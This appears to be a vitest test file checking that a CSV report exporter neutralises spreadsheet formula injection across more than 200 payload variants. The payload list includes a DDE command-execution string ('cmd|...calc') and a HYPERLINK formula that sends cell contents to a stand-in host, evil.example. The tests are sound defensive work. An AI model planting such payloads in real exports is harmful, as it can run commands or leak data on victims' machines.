import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { oneLine } from '../../src/core/text.ts';
import { csv } from '../../src/reporters/csv.ts';
import { csvRow } from '../../src/reporters/csv-row.ts';
import { parseCsv } from '../support/csv.ts';
import { hostileFinding, sampleFinding, sampleReport } from './sample-report.ts';

const SIGNS = [
  '=',
  '+',
  '-',
  '@',
  '\uFF1D',
  '\uFF0B',
  '\uFF0D',
  '\uFF20',
  '\uFE66',
  '\uFE62',
  '\uFE63',
  '\uFE6B',
  '\u2212',
];
const LEADS = ['', '\t', '\r', '\n', '\r\n', ' ', '\u00A0', '\u200B', '"', "'", '"\t', "' ", '\u201C', '`', '\u0000'];
const COMMANDS = ["cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example?"&A1,"x")', '1+1', 'SUM(A1:A9)', 'x'];
const PAYLOADS = [
  ...SIGNS.flatMap((sign) => LEADS.map((lead) => `${lead}${sign}1+1`)),
  ...COMMANDS.flatMap((command) => ['=', '+', '-', '@'].map((sign) => sign + command)),
  'a;=1+1',
  'a; "@SUM(A1)',
  ';-1',
  'x";=1+1;"',
  "';=1+1",
];

/** What a spreadsheet may run: a cell, or what a semicolon makes one, that begins with a sign after blanks and quotes. */
function mayRun(cell: string): boolean {
  return cell
    .split(';')
    .some((part) => SIGNS.includes(part.replace(/^[\s"'`\u2018-\u201F]+/, '').charAt(0)) && !part.startsWith("'"));
}

/** As a reader takes the mark away again. */
function unmarked(cell: string): string {
  const sign = `(?=[\\s"'\`\u2018-\u201F]*[${SIGNS.map((item) => `\\${item}`).join('')}])`;
  return cell.replaceAll(new RegExp(`(^|;)'${sign}`, 'g'), '$1');
}

describe('formulas', () => {
  test(`${PAYLOADS.length} payloads are texts, and come back as they were`, () => {
    expect(PAYLOADS.length).toBeGreaterThan(200);
    for (const payload of PAYLOADS) {
      const [cells] = parseCsv(csvRow(['before', payload, 'after']));
      expect({ payload, cells: cells?.length }).toEqual({ payload, cells: 3 });
      const cell = cells?.[1] ?? '';
      expect({ payload, runs: mayRun(cell) }).toEqual({ payload, runs: false });
      expect({ payload, cell: unmarked(cell) }).toEqual({ payload, cell: oneLine(payload) });
    }
  });

  test('the check sees what is not neutralised', () => {
    expect(PAYLOADS.map(oneLine).filter((payload) => !payload.startsWith("'") && !mayRun(payload))).toEqual([]);
  });

  test('any text, any number of cells', () => {
    const alphabet = fc.constantFrom(...'=+-@\t\r\n"\' ;,ab1', '\uFF1D', '\u200B', '\uFEFF');
    fc.assert(
      fc.property(fc.array(fc.string({ unit: alphabet }), { minLength: 1, maxLength: 6 }), (texts) => {
        const [cells = []] = parseCsv(csvRow(texts));
        expect(cells.map(unmarked)).toEqual(texts.map(oneLine));
        expect(cells.filter(mayRun)).toEqual([]);
      }),
      { seed: 4, numRuns: 3_000 },
    );
  });

  test('what is harmless is not touched, and numbers stay numbers', () => {
    expect(csvRow(['a-b', 'x=1', 'a@b.example', -12.5, 0, null])).toBe('"a-b","x=1","a@b.example",-12.5,0,\r\n');
  });
});

test('a header and a row per finding, with the mark that Excel wants', () => {
  const impact = {
    monthlyLow: -20,
    monthly: -10,
    monthlyHigh: -5,
    currency: 'EUR',
    basis: 'retail',
    grade: 'B',
  } as const;
  const text = [...csv(sampleReport([sampleFinding('a', { impact }), sampleFinding('b')]))].join('');
  expect(text.startsWith('\uFEFF"Fingerprint",')).toBe(true);
  const [header = [], ...rows] = parseCsv(text.slice(1));
  expect(rows.map((row) => row.length)).toEqual([header.length, header.length]);
  const named = Object.fromEntries(header.map((name, index) => [name, rows[0]?.[index]]));
  expect(named).toMatchObject({ Severity: 'high', Resource: 'a', 'Saving per month': '-10', Currency: 'EUR' });
  expect(named).toMatchObject({ Evidence: 'Replicas: 1', Tags: 'owner=ana@example.org', Baseline: '' });
});

test('no column of a finding runs, whatever Azure calls things', () => {
  for (const payload of PAYLOADS) {
    const rows = parseCsv([...csv(sampleReport([hostileFinding(payload)]))].join('').slice(1));
    expect(rows).toHaveLength(2);
    expect(rows[1]).toHaveLength(rows[0]?.length ?? 0);
    expect({ payload, run: rows.flat().filter(mayRun) }).toEqual({ payload, run: [] });
  }
});
